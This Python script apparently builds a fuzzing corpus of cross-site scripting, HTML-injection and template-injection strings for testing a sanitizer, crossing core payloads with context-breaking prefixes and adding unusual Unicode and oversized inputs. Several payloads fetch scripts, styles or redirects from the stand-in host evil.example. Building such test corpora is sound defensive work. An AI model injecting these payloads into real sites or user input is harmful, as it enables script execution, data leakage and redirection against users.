#!/usr/bin/env python3
"""At least 150 texts that try to become markup, script, style or another text than they are. Prints a JSON list."""
import json

# Each sets window.pwned, or asks evil.example for something, where it gets to run.
CORE = [
    "<script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>", "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>", "<iframe src=\"javascript:window.pwned=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>", "<a href=\"javascript:window.pwned=1\">x</a>",
    "<body onload=window.pwned=1>", "<details open ontoggle=window.pwned=1>x</details>", "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>", "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">", "<img src=\"http://evil.example/a.png\">",
    "<link rel=stylesheet href=http://evil.example/a.css>", "<style>@import 'http://evil.example/b.css';</style>",
    "<style>body{background:url(http://evil.example/c.png)}</style>", "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<base href=\"http://evil.example/\">", "<form action=\"http://evil.example/\"><button>x</button></form>",
    "<object data=\"http://evil.example/o\"></object>", "<embed src=\"http://evil.example/e\">", "<script src=http://evil.example/s.js></script>",
    "<link rel=preload as=image href=http://evil.example/p.png>", "<template><script>window.pwned=1</script></template>",
    "<x contenteditable onblur=window.pwned=1>", "<marquee onstart=window.pwned=1>x</marquee>", "<!--><script>window.pwned=1</script>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>", "<?xml version=\"1.0\"?><script>window.pwned=1</script>",
    "{{{csrf}}} {{#can}}{{/can}} {{>layout}} {{=<% %>=}}", "${7*7} #{7*7} <%= 7*7 %>",
]
EDGES = ["{}", "\">{}", "'>{}", "\"\u0301>{}", "</mark></div></main>{}", "</textarea></title></script>{}"]
ODD = [
    "\" onmouseover=window.pwned=1 x=\"", "' onfocus=window.pwned=1 autofocus x='", "\"\u0338 onfocus=window.pwned=1 autofocus=\"",
    "<\u0338script>window.pwned=1</script>", "\u202egnirts desrever\u202c", "\u2066\u2067\u2068\u2069\u061c\u200e\u200f", "a\u200bb\u200cc\u200dd\ufeffe\u00ad",
    "e" + "\u0301" * 400, "\u0001\u0002\u001b[31m\u007f\u0085\u009b", "\U000e0041\U000e0042\U000e007f", "\ufff9x\ufffay\ufffb", "\u3164\u115f\u1160\uffa0",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;script&#62;window.pwned=1&#60;/script&#62;", "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\u2028window.pwned=1\u2029", "]]>", "-->", "*/window.pwned=1/*", "`;window.pwned=1//", "javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>",
    "x" * 30_000, "<" * 5_000, "&" * 5_000, "\n" * 3_000, "word " * 6_000, "\u05d0\u05d1\u05d2 abc \u0645\u0631\u062d\u0628\u0627", "\ud83d\udc69".encode("utf-16", "surrogatepass").decode("utf-16") + "\u200d\U0001f4bb",
    "<ScRiPt/x>window.pwned=1</ScRiPt>", "<script\n>window.pwned=1</script\n>", "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
]


def texts():
    return [edge.replace("{}", core) for core in CORE for edge in EDGES] + ODD


if __name__ == "__main__":
    print(json.dumps([text.replace("\x00", "") for text in texts()]))
